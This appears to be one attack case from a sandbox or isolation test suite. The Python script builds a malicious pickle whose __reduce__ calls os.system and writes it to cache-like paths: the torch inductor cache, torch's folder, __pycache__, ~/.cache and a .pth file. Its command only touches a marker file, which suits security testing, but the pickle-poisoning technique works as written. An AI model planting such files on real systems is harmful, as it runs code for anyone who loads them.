# /// attack
# title = "Drops pickles by the names of caches"
# ///
import os
import pickle
import sys

import torch


class Bomb:
    def __reduce__(self):
        return os.system, (f"touch /tmp/{WORLD['mark']}-cache",)


def attack():
    written = []
    folder = os.path.dirname(torch.__file__)
    for path in (
        "/tmp/torchinductor_root/cache.pkl", f"/tmp/{WORLD['mark']}.pkl", f"{folder}/cache.pt",
        f"{WORLD['course']}/exercises/three/__pycache__/stub.pkl", os.path.expanduser("~/.cache/x"),
        f"{sys.prefix}/{WORLD['mark']}.pth",
    ):
        try:
            with open(path, "wb") as file:
                pickle.dump(Bomb(), file)
            written.append(path)
        except OSError:
            pass
    return written or None
